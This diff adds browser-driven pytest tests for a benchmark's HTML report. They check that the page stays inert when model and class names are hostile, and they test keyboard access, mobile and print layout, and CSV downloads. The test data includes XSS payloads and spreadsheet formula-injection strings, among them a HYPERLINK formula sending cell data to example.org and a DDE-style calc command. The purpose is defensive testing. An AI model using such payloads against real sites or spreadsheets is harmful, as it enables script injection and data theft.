@@ -1,0 +1,492 @@
+"""The whole report in a browser: quiet, deaf to hostile names, usable from the keyboard, on a phone and on paper.
+
+Chromium is driven through the pipe of its DevTools protocol (``--remote-debugging-pipe``: messages in JSON, each
+ended by a zero byte), which needs no further package.
+"""
+
+from __future__ import annotations
+
+import csv
+import fcntl
+import io
+import json
+import os
+import re
+import select
+import shutil
+import subprocess
+import sys
+import time
+from base64 import b64decode
+from dataclasses import replace
+from pathlib import Path
+from xml.etree import ElementTree
+
+import numpy as np
+import pytest
+
+from rgbench.comparison.summary import compare
+from rgbench.data.catalogue import Card, Catalogue, DataSet
+from rgbench.report import page
+from rgbench.report.analysis.runs import Beside
+from rgbench.report.html import write_report
+from rgbench.report.standalone import standalone
+from rgbench.tables import concatenate
+
+BROWSER = next((b for b in ("chromium", "chromium-browser", "google-chrome") if shutil.which(b)), None)
+pytestmark = pytest.mark.skipif(BROWSER is None, reason="needs Chromium or Chrome")
+
+FLAGS = (
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--remote-debugging-pipe",
+)
+EXEC = (
+    "import os, sys; os.dup2(int(sys.argv[1]), 3); os.dup2(int(sys.argv[2]), 4); "
+    "os.execvp(sys.argv[3], sys.argv[3:])"
+)
+"""Puts the pipes where the browser looks for them, then becomes the browser."""
+SCRIPT = "<script>window.pwned = 1</script>"
+IMAGE = '"><img src=x onerror="window.pwned = 1">'
+LINK = 'javascript:window.pwned=1//" href="javascript:window.pwned=1'
+FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
+HOSTILE = (SCRIPT, IMAGE, LINK, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd()", "-cmd()", "\x0b\x00]]>-->")
+SECTIONS = {
+    *(
+        "table",
+        "ranking",
+        "differences",
+        "places",
+        "models",
+        "confusion",
+        "training",
+        "overfitting",
+        "learning",
+    ),
+    *("ensembles", "calibration", "robustness", "failures", "labels", "sources", "runs", "terms", "cite"),
+}
+WATCH = """
+window.violations = [];
+document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.violatedDirective));
+"""
+TABBABLE = """
+[...document.querySelectorAll("a[href], button, summary, [tabindex='0']")]
+  .filter((each) => each.checkVisibility({contentVisibilityAuto: true, visibilityProperty: true}))
+"""
+NAME = """((each) => [each.tagName, each.className.baseVal ?? each.className,
+  each.getAttribute("aria-label") ?? each.textContent.trim()].join(" "))"""
+
+
+class Browser:
+    """A headless browser with one page."""
+
+    def __init__(self, folder: Path) -> None:
+        (read, self.to), (self.back, write) = os.pipe(), os.pipe()
+        ends = [fcntl.fcntl(end, fcntl.F_DUPFD, 10) for end in (read, write)]
+        command = [sys.executable, "-c", EXEC, *map(str, ends), BROWSER, *FLAGS, f"--user-data-dir={folder}"]
+        self.process = subprocess.Popen(
+            command, pass_fds=ends, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
+        )
+        for end in (read, write, *ends):
+            os.close(end)
+        self.number, self.session, self.rest, self.events = 0, None, b"", []
+        target = self("Target.createTarget", url="about:blank")["targetId"]
+        self.session = self("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
+        for domain in ("Page", "Runtime", "Log", "Network"):
+            self(f"{domain}.enable")
+        self("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
+
+    def __call__(self, method: str, **parameters):
+        """Send a command, and give its result."""
+        self.number += 1
+        message = {"id": self.number, "method": method, "params": parameters}
+        message |= {"sessionId": self.session} if self.session else {}
+        os.write(self.to, json.dumps(message).encode() + b"\0")
+        while (answer := self._next()).get("id") != self.number:
+            self.events.append(answer)
+        assert "error" not in answer, answer
+        return answer["result"]
+
+    def _next(self, seconds: float = 60) -> dict:
+        while b"\0" not in self.rest:
+            assert select.select([self.back], [], [], seconds)[0], "the browser does not answer"
+            found = os.read(self.back, 1 << 20)
+            assert found, "the browser has ended"
+            self.rest += found
+        message, _, self.rest = self.rest.partition(b"\0")
+        return json.loads(message)
+
+    def open(self, path: Path, width: int = 1200, dark: bool = False) -> None:
+        """Show a page, wait until its script has run, and forget what happened before."""
+        self("Emulation.setDeviceMetricsOverride", width=width, height=900, deviceScaleFactor=1, mobile=False)
+        scheme = {"name": "prefers-color-scheme", "value": "dark" if dark else "light"}
+        self("Emulation.setEmulatedMedia", media="", features=[scheme])
+        self.events.clear()
+        self("Page.navigate", url=path.as_uri())
+        until = time.monotonic() + 60
+        while not self.run("document.readyState === 'complete' && location.protocol === 'file:'"):
+            assert time.monotonic() < until, "the page does not load"
+            time.sleep(0.02)
+
+    def run(self, script: str):
+        """Give what a script evaluates to."""
+        answer = self("Runtime.evaluate", expression=script, returnByValue=True, awaitPromise=True)
+        assert "exceptionDetails" not in answer, answer
+        return answer["result"].get("value")
+
+    def press(self, key: str) -> None:
+        """Press and release a key."""
+        code = {"Tab": 9, "Enter": 13, " ": 32}[key]
+        text = {"Enter": "\r", " ": " "}.get(key)
+        down = {"type": "keyDown", "text": text} if text else {"type": "rawKeyDown"}
+        for event in (down, {"type": "keyUp"}):
+            self("Input.dispatchKeyEvent", key=key, windowsVirtualKeyCode=code, **event)
+
+    def close(self) -> None:
+        """End it."""
+        for end in (self.to, self.back):
+            os.close(end)
+        self.process.kill()
+        self.process.wait()
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory):
+    started = Browser(tmp_path_factory.mktemp("profile"))
+    yield started
+    started.close()
+
+
+def hostile(records, classes=None):
+    """Give records with hostile names of networks and classes."""
+    names = {"convxpress": f"net {SCRIPT}", "mcrgnet": IMAGE, "radio-galaxy-zoo": FORMULA}
+    made = []
+    for record in records:
+        network = record.spec.network.model_copy(update={"name": names[record.spec.network.name]})
+        spec = record.spec.model_copy(update={"network": network})
+        predictions = replace(record.predictions, classes=classes or record.predictions.classes)
+        made.append(replace(record, spec=spec, predictions=predictions))
+    return made
+
+
+def stressed(record):
+    """Give predictions on disturbed images: the later the condition, the more answers are turned."""
+    tables = []
+    for k, name in enumerate(("rotation-000", "rotation-090", "noise-1.0", "noise-2.0")):
+        test = record.predictions.select("test", "best")
+        turned = np.random.default_rng([k, record.spec.seed]).random(len(test)) < 0.1 * k
+        logits = np.where(turned[:, None], np.roll(test.logits, 1, axis=1), test.logits)
+        tables.append(replace(test, logits=logits, condition=np.full(len(test), name)))
+    return concatenate(tables)
+
+
+def on_fewer(record, n: int):
+    """Give a run as if it had been trained on n sources."""
+    data = record.spec.data.model_copy(update={"train_limit": n})
+    turned = np.random.default_rng([n, record.spec.seed]).random(len(record.predictions)) < 2 * n**-0.5
+    logits = np.where(
+        turned[:, None], np.roll(record.predictions.logits, 1, axis=1), record.predictions.logits
+    )
+    spec, cost = record.spec.model_copy(update={"data": data}), {**record.cost, "training_sources": n}
+    return replace(record, spec=spec, cost=cost, predictions=replace(record.predictions, logits=logits))
+
+
+def dataset(records, names, classes) -> DataSet:
+    """Make the data of the runs: positions, properties and images of the test sources."""
+    n, rng = len(names), np.random.default_rng(5)
+    extra = {"size": rng.uniform(1, 200, n), "parent": np.array([*HOSTILE, "a"])[np.arange(n) % 9]}
+    label = np.arange(n) % len(classes)
+    zero = np.zeros(n, np.int64)
+    ra, dec = rng.uniform(100, 200, n), rng.uniform(0, 60, n)
+    catalogue = Catalogue(names, ra, dec, label, np.arange(n), names, zero, extra)
+    card = Card("toy", SCRIPT, classes=classes, pixel_scale=1.8, beam=5.4, survey="FIRST")
+    images = np.repeat(np.eye(32, dtype=np.float32)[None], n, axis=0)
+    return DataSet(card, catalogue, images, {"published": np.full(n, "test")})
+
+
+@pytest.fixture(scope="module")
+def filled(runs, tmp_path_factory):
+    """Give the path and the content of a report with all sections, in which every name is hostile."""
+    names = np.array([f"{HOSTILE[i % len(HOSTILE)]} {i}" for i in range(200)])
+    classes = (f"A{SCRIPT}", f"B{IMAGE}", FORMULA, f"D{LINK}")
+    records = hostile(runs(seeds=(1, 2, 3), names=names), classes)
+    failed = replace(
+        records[0],
+        status="failed",
+        error=f"ValueError: {SCRIPT}{IMAGE}",
+        predictions=None,
+        history={},
+        cost={},
+    )
+    smaller = tuple(on_fewer(record, n) for n in (100, 200, 400) for record in records)
+    data = dataset(records, names, classes)
+    whole = [replace(r, cost=r.cost | {"training_sources": 1600}) for r in records]
+    conditions = {record.run_id: stressed(record) for record in whole}
+    elsewhere = {f"other {IMAGE}": compare(whole)}
+    beside = Beside(smaller, conditions, data, elsewhere)
+    failed = replace(failed, spec=failed.spec.model_copy(update={"seed": 99}), run_id="f" * 16)
+    comparisons = {model: compare([*whole, failed], model=model) for model in ("best", "final")}
+    images = dict(zip(names.tolist(), data.images, strict=True))
+    path = tmp_path_factory.mktemp("filled") / "report.html"
+    write_report(path, comparisons, [*whole, failed], images, beside=beside)
+    return path, page.context(comparisons, [*whole, failed], beside=beside)
+
+
+@pytest.fixture(scope="module")
+def plain(made, tmp_path_factory) -> Path:
+    path = tmp_path_factory.mktemp("plain") / "report.html"
+    return write_report(path, made.comparisons, made.records, made.images)
+
+
+def quiet(browser: Browser) -> list[str]:
+    """Give what the browser had to complain of."""
+    kinds = ("Runtime.consoleAPICalled", "Runtime.exceptionThrown", "Log.entryAdded")
+    said = [json.dumps(each) for each in browser.events if each.get("method") in kinds]
+    asked = [
+        e["params"]["request"]["url"]
+        for e in browser.events
+        if e.get("method") == "Network.requestWillBeSent"
+    ]
+    left = [url[:200] for url in asked if not url.startswith(("file:", "data:", "blob:"))]
+    files = {url.partition("#")[0] for url in asked if url.startswith("file:")}
+    return [
+        *said,
+        *left,
+        *browser.run("window.violations"),
+        *(["more than one file"] if len(files) > 1 else []),
+    ]
+
+
+def test_a_full_page_of_hostile_names_is_quiet_and_inert(browser, filled):
+    browser.open(filled[0])
+    anchors = set(browser.run("[...document.querySelectorAll('nav a')].map((a) => a.hash.slice(1))"))
+    assert anchors >= SECTIONS
+    browser.run("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
+    browser.run(
+        "document.querySelectorAll('thead button, .downloads button').forEach((each) => each.click())"
+    )
+    assert quiet(browser) == []
+    assert browser.run("window.pwned") is None
+    assert (
+        browser.run("document.querySelectorAll('[onerror], main script, img:not([src^=\"data:\"])').length")
+        == 0
+    )
+    links = browser.run("[...document.querySelectorAll('a')].map((a) => a.href.baseVal ?? a.href)")
+    assert {link.partition(":")[0] for link in links} <= {"file", "data", "https", "#cell"} | {
+        link for link in links if link.startswith("#cell-")
+    }
+    assert SCRIPT in browser.run("document.body.innerText"), "the names are there, as text"
+
+
+def test_the_policy_of_the_page_lets_nothing_in(browser, plain):
+    browser.open(plain)
+    assert quiet(browser) == []
+    browser.run(
+        "document.body.insertAdjacentHTML('beforeend', "
+        '\'<img src="https://example.org/x.png" onerror="window.pwned=1">\')'
+    )
+    browser.run("new Promise((go) => setTimeout(go, 50))")
+    assert "img-src" in browser.run("window.violations"), "the watch of this test sees what is refused"
+    assert browser.run("window.pwned") is None
+
+
+def test_tab_goes_through_everything_in_order(browser, plain):
+    browser.open(plain)
+    expected = browser.run(f"{TABBABLE}.map({NAME})")
+    found = []
+    for _ in expected:
+        browser.press("Tab")
+        found.append(browser.run(f"({NAME})(document.activeElement)"))
+    assert found == expected
+    assert found[0] == "A skip Skip to the answer"
+    places = [
+        found.index(each) for each in ("A  All networks", "BUTTON  MPCA %", "A  CSV, unrounded", "A  Cite")
+    ]
+    assert places[0] < places[3] < places[1] < places[2], "menu, then headings, then downloads"
+    assert any("taken for" in each and each.startswith("a ") for each in found), "cells of confusion matrices"
+    assert any(each.startswith("BUTTON  SVG of the figure") for each in found)
+
+
+def test_enter_and_space_sort_a_table(browser, plain):
+    browser.open(plain)
+    browser.run("document.querySelectorAll('#table thead button')[5].focus()")
+    values = (
+        "[...document.querySelectorAll('#table tbody tr')].map((row) => Number(row.cells[5].dataset.value))"
+    )
+    orders = []
+    for key in ("Enter", " "):
+        browser.press(key)
+        orders.append((browser.run("document.activeElement.closest('th').ariaSort"), browser.run(values)))
+    (first, down), (second, up) = orders
+    assert (first, second) == ("descending", "ascending")
+    assert down == sorted(down, reverse=True)
+    assert up == down[::-1]
+    assert len(set(up)) == 3
+
+
+def test_enter_on_a_cell_unfolds_its_sources(browser, plain):
+    browser.open(plain)
+    anchor = browser.run(
+        "document.querySelector('#confusion svg a').focus(), document.activeElement.href.baseVal"
+    )
+    assert browser.run(f"document.getElementById('{anchor[1:]}').closest('details').open") is False
+    browser.press("Enter")
+    browser.run("new Promise((go) => setTimeout(go, 50))")
+    assert browser.run("document.activeElement.id") == anchor[1:]
+    assert browser.run(f"document.getElementById('{anchor[1:]}').closest('details').open") is True
+
+
+SAVED = """
+(async () => {
+  const blobs = [];
+  URL.createObjectURL = (blob) => { blobs.push(blob); return "blob:none"; };
+  HTMLAnchorElement.prototype.click = () => {};
+  document.querySelectorAll("figure .downloads button").forEach((button) => button.click());
+  return Promise.all(blobs.map((blob) => blob.text()));
+})()
+"""
+COMPUTED = """
+[...document.querySelectorAll("figure[data-name] > svg")].map((svg) => {
+  const shapes = [...svg.querySelectorAll("*:not(a, title)")];
+  return shapes.map((each) => {
+    const look = getComputedStyle(each);
+    const names = ["fill", "stroke", "strokeWidth", "fontSize", "strokeDasharray", "fillOpacity"];
+    return [each.tagName, ...names.map((name) => look[name])];
+  });
+})
+"""
+
+
+def shapes(drawing: str) -> list[tuple[str, dict[str, str]]]:
+    """Give the shapes of an SVG file, colours and numbers written in one way."""
+    found = []
+    for shape in ElementTree.fromstring(drawing).iter():
+        tag, look = shape.tag.rpartition("}")[2], dict(shape.attrib)
+        if tag not in ("g", "title", "svg"):
+            found.append((tag, {key: one_way(value) for key, value in look.items()}))
+    return found
+
+
+def one_way(value: str) -> str:
+    """Write a colour, a length or a list of lengths in one way."""
+    if match := re.fullmatch(r"rgb\((\d+), (\d+), (\d+)\)", value):
+        return "#{:02x}{:02x}{:02x}".format(*map(int, match.groups()))
+    if re.fullmatch(r"#[0-9a-fA-F]{3}", value):
+        return "#" + "".join(2 * digit for digit in value[1:].lower())
+    plain = value.lower().replace("px", "").replace(",", " ")
+    return " ".join(
+        f"{float(part):g}" if re.fullmatch(r"\d*\.?\d+", part) else part for part in plain.split()
+    )
+
+
+def test_saved_figures_are_those_of_the_page_in_light_colours(browser, filled):
+    path, content = filled
+    browser.open(path, dark=True)
+    dark = browser.run(SAVED)
+    figures = {figure.name: figure for figure in page.figures_of(content)}
+    shown = browser.run(
+        "[...document.querySelectorAll('figure[data-name]')].map((each) => each.dataset.name)"
+    )
+    assert len(dark) == len(shown)
+    assert set(shown) == set(figures)
+    browser.open(path, dark=False)
+    assert browser.run(SAVED) == dark
+    for name, saved, computed in zip(shown, dark, browser.run(COMPUTED), strict=True):
+        assert "var(" not in saved
+        assert "class=" not in saved
+        ours = shapes(saved)
+        assert ours == shapes(standalone(figures[name].drawing)), name
+        for (tag, look), (kind, *seen) in zip(
+            ours[1:], [each for each in computed if each[0] != "g"], strict=True
+        ):
+            assert tag == kind
+            keys = ("fill", "stroke", "stroke-width", "font-size", "stroke-dasharray", "fill-opacity")
+            for key, value in zip(keys, seen, strict=True):
+                if key in look and look[key] != "none":
+                    assert look[key] == one_way(value), (name, tag, key)
+
+
+def test_a_saved_figure_opens_as_a_file(browser, plain, tmp_path):
+    browser.open(plain, dark=True)
+    file = tmp_path / "figure.svg"
+    file.write_text(browser.run(SAVED)[0], encoding="utf8")
+    browser.open(file, dark=True)
+    assert browser.run("document.documentElement.tagName") == "svg"
+    assert browser.run("document.querySelectorAll('text').length") > 5
+    assert browser.run("getComputedStyle(document.querySelector('rect')).fill") == "rgb(255, 255, 255)"
+
+
+def test_downloaded_tables_start_no_formula_and_keep_their_shape(browser, filled):
+    browser.open(filled[0])
+    script = "[...document.querySelectorAll('a[download]')].map((a) => [a.download, a.href])"
+    downloads = browser.run(script)
+    tables = [
+        b64decode(address.partition("base64,")[2]).decode()
+        for name, address in downloads
+        if name.endswith(".csv")
+    ]
+    assert len(tables) > 30
+    seen = set()
+    for table in tables:
+        rows = list(csv.reader(io.StringIO(table)))
+        assert {len(row) for row in rows} == {len(rows[0])}
+        for cell in (cell for row in rows for cell in row):
+            seen.add(cell)
+            assert not cell.startswith(("=", "@", "\t", "\r")), cell
+            if cell.startswith(("+", "-")):
+                float(cell)
+    assert f"'{FORMULA}" in seen, "a network of that name stands in the tables"
+    assert len({name for name, _ in downloads}) == len(downloads), "no two downloads have the same name"
+
+
+@pytest.mark.parametrize("dark", [False, True])
+@pytest.mark.parametrize("width", [390, 1200])
+def test_nothing_is_cut_off_or_covered(browser, plain, width, dark):
+    browser.open(plain, width, dark)
+    browser.run("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
+    assert browser.run("document.documentElement.scrollWidth") <= width
+    script = """[...document.querySelectorAll("body *")].filter((each) => !each.closest(".scroll, .skip, svg")
+      && each.getBoundingClientRect().right > innerWidth + 1).map((each) => each.outerHTML.slice(0, 200))"""
+    assert browser.run(script) == []
+    bottom, top = (
+        browser.run(f"document.querySelector('{name}').getBoundingClientRect().{side}")
+        for name, side in (("nav", "bottom"), ("main", "top"))
+    )
+    assert bottom <= top
+    inside = """[...document.querySelectorAll(".scroll")].every((each) =>
+      each.clientWidth <= innerWidth && getComputedStyle(each).overflowX === "auto")"""
+    assert browser.run(inside)
+    ink = browser.run(
+        "['color', 'backgroundColor'].map((name) => getComputedStyle(document.body)[name].match(/\\d+/g).map(Number))"
+    )
+    light = [sum(colour[:3]) for colour in ink]
+    assert (light[0] > 500 > 200 > light[1]) if dark else (light[1] > 700 and light[0] < 200)
+
+
+def test_on_paper_all_is_unfolded_light_and_within_the_page(browser, plain):
+    browser.open(plain, 703, dark=True)
+    browser(
+        "Emulation.setEmulatedMedia",
+        media="print",
+        features=[{"name": "prefers-color-scheme", "value": "dark"}],
+    )
+    browser.run("dispatchEvent(new Event('beforeprint'))")
+    assert browser.run("document.querySelectorAll('details:not(.screen):not([open])').length") == 0
+    shown = """[...document.querySelectorAll(".paper, nav, .screen")].map((each) =>
+      [each.className || each.tagName, each.checkVisibility()])"""
+    assert {visible for name, visible in browser.run(shown) if "paper" in name} == {True}
+    assert {visible for name, visible in browser.run(shown) if "paper" not in name} == {False}
+    assert browser.run("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
+    assert browser.run("getComputedStyle(document.querySelector('svg .dot')).fill") == "rgb(31, 95, 168)"
+    wide = """[...document.querySelectorAll("table, figure")].filter((each) =>
+      each.getBoundingClientRect().right > 704).map((each) => each.innerText.slice(0, 80))"""
+    assert browser.run(wide) == []
+    browser.run("dispatchEvent(new Event('afterprint'))")
+    assert browser.run("document.querySelectorAll('details:not([open])').length") > 0
+    assert b64decode(browser("Page.printToPDF")["data"]).startswith(b"%PDF")
